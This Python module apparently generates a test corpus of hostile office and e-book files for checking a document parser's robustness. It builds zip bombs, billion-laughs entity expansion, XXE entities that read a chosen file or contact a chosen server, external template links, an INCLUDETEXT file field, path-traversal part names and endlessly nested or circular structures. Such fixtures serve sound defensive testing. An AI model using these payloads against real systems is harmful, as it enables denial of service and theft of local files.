"""Office documents and books that no person made: bombs, loops, doors to the outside."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"
Made = tuple[str, Callable[[], bytes]]
"""A file's name, and what makes its bytes."""

SAID = "<w:p><w:r><w:t>Twelve ships passed.</w:t></w:r></w:p>"
CONTAINER = '<c><rootfiles><rootfile full-path="{}"/></rootfiles></c>'
LAUGHS = "".join(
    f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'ha'}'>" for n in range(10)
)  # ten to the ninth, were it unfolded


def zipped(parts: Mapping[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", compression) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return held.getvalue()


def word(body: str = SAID, **parts: str | bytes) -> bytes:
    """A Word document; ``parts`` by their path with ``__`` for a slash and ``_`` before the suffix."""
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return zipped({"word/document.xml": document, **{_path(name): content for name, content in parts.items()}})


def opened(body: str, styles: str = "", before: str = "") -> bytes:
    """An OpenDocument text."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{urn}:1.0"'
        for name, urn in (
            ("o", "office"),
            ("text", "text"),
            ("style", "style"),
            ("draw", "drawing"),
            ("table", "table"),
        )
    )
    content = (
        f'{before}<o:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><o:automatic-styles>{styles}'
        f"</o:automatic-styles><o:body><o:text>{body}</o:text></o:body></o:document-content>"
    )
    return zipped({"mimetype": ODT, "content.xml": content})


def documents(server: str, secret: str) -> Iterator[Made]:
    """Yield name and making of each document; those that reach out reach for ``server`` and the file ``secret``."""
    yield from _bombs()
    yield from _doors(server, secret)
    yield from _knots(secret)
    yield from _open_documents(server, secret)
    yield from _books(server, secret)


def _bombs() -> Iterator[Made]:
    yield "docx-zip-bomb.docx", lambda: word(word__media__a_xml=b"\0" * (260 << 20))
    yield "docx-text-bomb.docx", lambda: word("<w:p><w:r><w:t>" + "a" * (60 << 20) + "</w:t></w:r></w:p>")
    yield "docx-overlapping-parts.docx", lambda: _overlapping()
    yield (
        "docx-many-parts.docx",
        lambda: zipped({f"{n}.xml": "" for n in range(20_000)} | {"word/document.xml": "<a/>"}),
    )
    yield "docx-cut-short.docx", lambda: word()[:-40]
    yield "docx-size-that-lies.docx", lambda: _lying_size()
    yield "docx-climbing-names.docx", lambda: word(**{"..__..__..__etc__passwd_xml": "<a/>"})


def _doors(server: str, secret: str) -> Iterator[Made]:
    yield "docx-billion-laughs.docx", lambda: zipped({"word/document.xml": f"<!DOCTYPE a [{LAUGHS}]><a>&l9;</a>"})
    yield "docx-entity-of-a-file.docx", lambda: zipped({"word/document.xml": _reaching(secret)})
    yield "docx-entity-of-a-server.docx", lambda: zipped({"word/document.xml": _reaching(server)})
    yield "docx-styles-with-entity.docx", lambda: word(word__styles_xml=_reaching(secret))
    yield "docx-template-elsewhere.docx", lambda: word(**{"word___rels__document_xml_rels": _relations(server, secret)})


def _knots(secret: str) -> Iterator[Made]:
    yield "docx-deep.docx", lambda: word("<w:sdt>" * 100_000)
    yield "docx-deep-but-closed.docx", lambda: word("<w:ins>" * 30_000 + SAID + "</w:ins>" * 30_000)
    yield "docx-boxes-in-boxes.docx", lambda: word(_boxes(60))
    yield (
        "docx-styles-in-a-circle.docx",
        lambda: word(
            '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>Words.</w:t></w:r></w:p>',
            word__styles_xml=f'<w:styles {W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
            '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
        ),
    )
    yield (
        "docx-a-note-that-notes-itself.docx",
        lambda: word(
            '<w:p><w:r><w:t>Words.</w:t><w:footnoteReference w:id="1"/></w:r></w:p>',
            word__footnotes_xml=f'<w:footnotes {W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/>'
            "<w:t>Note.</w:t></w:r></w:p></w:footnote></w:footnotes>",
        ),
    )
    yield "docx-many-comments.docx", lambda: _comments(20_000)
    yield (
        "docx-fields-without-end.docx",
        lambda: word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 50_000 + SAID),
    )
    yield (
        "docx-field-of-a-file.docx",
        lambda: word(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "' + secret + '"</w:instrText>'
            '<w:fldChar w:fldCharType="separate"/><w:t>shown</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
    )
    yield "docx-many-runs.docx", lambda: word("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 150_000 + "</w:p>")
    yield (
        "docx-numbers-that-are-none.docx",
        lambda: word(
            '<w:p><w:pPr><w:outlineLvl w:val="99999999999999999999"/><w:numPr><w:ilvl w:val="-7"/></w:numPr></w:pPr>'
            '<w:r><w:sym w:char="ZZZZ"/><w:t>Words.</w:t></w:r></w:p>'
        ),
    )


def _open_documents(server: str, secret: str) -> Iterator[Made]:
    yield "odt-space-bomb.odt", lambda: opened('<text:p>a<text:s text:c="999999999"/>b</text:p>' * 1000)
    yield "odt-number-that-is-none.odt", lambda: opened('<text:p>a<text:s text:c="many"/>b</text:p>')
    yield (
        "odt-rows-repeated.odt",
        lambda: opened(
            '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell><text:p>a</text:p>'
            "</table:table-cell></table:table-row></table:table>"
        ),
    )
    yield "odt-lists-in-lists.odt", lambda: opened("<text:list><text:list-item>" * 100 + "<text:p>deep</text:p>" +
                                           "</text:list-item></text:list>" * 100)  # fmt: skip
    yield "odt-deep.odt", lambda: opened("<text:section>" * 50_000)
    yield "odt-billion-laughs.odt", lambda: opened("<text:p>&l9;</text:p>", before=f"<!DOCTYPE a [{LAUGHS}]>")
    yield (
        "odt-object-elsewhere.odt",
        lambda: opened(
            f'<text:p>a<draw:frame><draw:image xlink:href="{server}"/></draw:frame>'
            f'<draw:frame><draw:object xlink:href="file://{secret}"/></draw:frame></text:p>'
        ),
    )
    yield (
        "odt-styles-in-a-circle.odt",
        lambda: opened(
            '<text:p text:style-name="a">Words.</text:p>',
            '<style:style style:name="a" style:parent-style-name="b"/>'
            '<style:style style:name="b" style:parent-style-name="a"/>',
        ),
    )
    yield (
        "odt-annotations-without-end.odt",
        lambda: opened("<text:p>" + '<o:annotation o:name="a"/>' * 20_000 + "w</text:p>"),
    )


def _books(server: str, secret: str) -> Iterator[Made]:
    yield "epub-chapter-outside.epub", lambda: _book(f'<item id="a" href="../../../../..{secret}"/>')
    yield "epub-chapter-on-a-server.epub", lambda: _book(f'<item id="a" href="{server}"/>')
    yield "epub-one-chapter-a-thousand-times.epub", lambda: _book('<item id="a" href="a.xhtml"/>', times=100_000)
    yield "epub-entity-in-the-book.epub", lambda: _book("", before=f"<!DOCTYPE a [{LAUGHS}]>")
    yield (
        "epub-container-in-a-circle.epub",
        lambda: zipped(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": CONTAINER.format("META-INF/container.xml"),
            }
        ),
    )
    yield "zip-in-zip.docx", lambda: zipped({"word/document.xml": zipped({"word/document.xml": "<a/>"})})


def _path(name: str) -> str:
    path = name.replace("___", "/_").replace("__", "/")
    stem, _, suffix = path.rpartition("_")
    if suffix == "rels":
        stem, _, before = stem.rpartition("_")
        return f"{stem}.{before}.rels"
    return f"{stem}.{suffix}"


def _reaching(target: str) -> str:
    address = target if "://" in target else f"file://{target}"
    return f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}">]><a>&x;</a>'


def _relations(server: str, secret: str) -> str:
    return (
        f'<Relationships><Relationship Id="t" Type="{REL}/attachedTemplate" TargetMode="External" Target="{server}"/>'
        f'<Relationship Id="h" Type="{REL}/header" TargetMode="External" Target="file://{secret}"/>'
        f'<Relationship Id="i" Type="{REL}/image" TargetMode="External" Target="{server}"/></Relationships>'
    )


def _boxes(depth: int) -> str:
    return "<w:p><w:r><w:pict><w:txbxContent>" * depth + SAID + "</w:txbxContent></w:pict></w:r></w:p>" * depth


def _comments(count: int) -> bytes:
    mentions = "".join(
        f'<w:commentRangeStart w:id="{n}"/><w:r><w:t>a </w:t></w:r><w:commentRangeEnd w:id="{n}"/>'
        for n in range(count)
    )
    comments = "".join(f'<w:comment w:id="{n}">{SAID}</w:comment>' for n in range(count))
    return word(f"<w:p>{mentions}</w:p>", word__comments_xml=f"<w:comments {W}>{comments}</w:comments>")


def _book(items: str, times: int = 1, before: str = "") -> bytes:
    spine = '<itemref idref="a"/>' * times
    opf = f"{before}<package><manifest>{items}</manifest><spine>{spine}</spine></package>"
    pages = {
        "META-INF/container.xml": CONTAINER.format("book.opf"),
        "book.opf": opf,
        "a.xhtml": "<p>" + "Words. " * 50 + "</p>",
    }
    return zipped({"mimetype": "application/epub+zip", **pages})


def _overlapping() -> bytes:
    """A zip whose parts all lie on the same bytes, so that a few kilobytes unpack to gigabytes."""
    data = bytearray(zipped({f"word/{n}.xml": b"\0" * (1 << 20) for n in range(40)} | {"word/document.xml": "<a/>"}))
    at = data.find(b"PK\x01\x02")
    while at != -1:
        struct.pack_into("<I", data, at + 42, 0)
        at = data.find(b"PK\x01\x02", at + 1)
    return bytes(data)


def _lying_size() -> bytes:
    """A part that says it unpacks to ten bytes and unpacks to a hundred million."""
    data = bytearray(zipped({"word/document.xml": b" " * (100 << 20)}))
    struct.pack_into("<I", data, 22, 10)
    struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, 10)
    return bytes(data)
